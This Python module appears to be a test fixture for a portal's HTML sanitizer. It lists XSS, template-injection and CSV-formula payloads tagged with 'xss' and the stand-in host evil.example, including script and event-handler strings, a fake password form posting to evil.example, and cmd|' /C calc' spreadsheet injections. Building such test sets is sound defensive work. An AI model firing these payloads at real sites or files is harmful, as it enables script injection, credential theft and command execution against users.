"""XSS and injection payloads, one per kind of attack. Each carries the marker `xss` (or the host
`evil.example`) in what it tries to smuggle in, so the HTML checker can tell its markup from the
portal's own; `TEMPLATE_PROBE` shows whether a template engine evaluated it."""

from __future__ import annotations

TEMPLATE_PROBE = "49xss"

PAYLOADS = {
    "script tag": "<script>alert('xss')</script>",
    "mixed-case script": "<ScRiPt>alert('xss')</sCrIpT>",
    "img onerror": "<img src=x onerror=alert('xss')>",
    "svg onload": "<svg onload=alert('xss')><circle r=1 /></svg>",
    "svg script": "<svg><script>alert('xss')</script></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\">",
    "markdown javascript link": "[click xss](javascript:alert('xss'))",
    "markdown data link": "[open xss](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=)",
    "markdown javascript image": "![xss](javascript:alert('xss'))",
    "markdown data svg image": "![xss](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ3hzcycpPjwvc3ZnPg==)",
    "markdown reference link": "[see xss][ref]\n\n[ref]: javascript:alert('xss')",
    "markdown autolink": "<javascript:alert('xss')> and <https://evil.example/xss>",
    "entity-encoded scheme": "<a href=\"&#106;avascript:alert('xss')\">xss one</a> <a href=\"jav&#x09;ascript:alert('xss')\">two</a>",
    "markdown entity scheme": "[xss](jav&#x61;script:alert('xss'))",
    "mixed-case scheme": "<a href=\"JaVaScRiPt:alert('xss')\">xss</a>",
    "double-quote breakout": '" onmouseover="alert(\'xss\')" autofocus onfocus="alert(\'xss\')" x="',
    "single-quote breakout": "' onfocus='alert(\"xss\")' autofocus x='",
    "tag breakout": "\"><script>alert('xss')</script><textarea>",
    "textarea and title breakout": "</textarea></title><script>alert('xss')</script>",
    "template injection": "{{7*7}}xss ${7*7}xss <%= 7*7 %>xss #{7*7}xss {% raw %}xss",
    "htmx attributes": '<div hx-get="/xss/admin/users" hx-trigger="load" hx-target="body" hx-swap="outerHTML">xss</div>',
    "htmx hx-on": "<button hx-on:click=\"alert('xss')\" data-hx-on::load=\"alert('xss')\">xss</button>",
    "css style attribute": '<p style="background:url(https://evil.example/xss.png)">xss styled</p>',
    "style element": "<style>body{background:url(https://evil.example/xss.png)}</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/xss">',
    "base href": '<base href="https://evil.example/xss/">',
    "form action": '<form action="https://evil.example/xss"><input name="password"><button>Sign in</button></form>',
    "formaction": "<button formaction=\"javascript:alert('xss')\">xss</button>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert('xss')</script>\"></iframe>",
    "raw html block": '<div>\n<iframe src="https://evil.example/xss"></iframe>\n</div>',
    "object and embed": '<object data="javascript:alert(\'xss\')"></object><embed src="https://evil.example/xss.swf">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/xss.css">',
    "id clobbering": '<div id="conversation">xss</div><a id="feedback-box" name="xss">xss</a>\n\n## Timeline',
    "same-origin image": '![xss](/staff/audit.csv?xss) <img src="/admin/users?xss">',
    "csv formula": '=HYPERLINK("https://evil.example/xss","open")',
    "csv plus": "+cmd|' /C calc'!A0 xss",
    "csv minus": "-2+3+cmd|' /C calc'!A0 xss",
    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0 xss",
    "csv tab": "\t=1+1+cmd|' /C calc'!A0 xss",
}
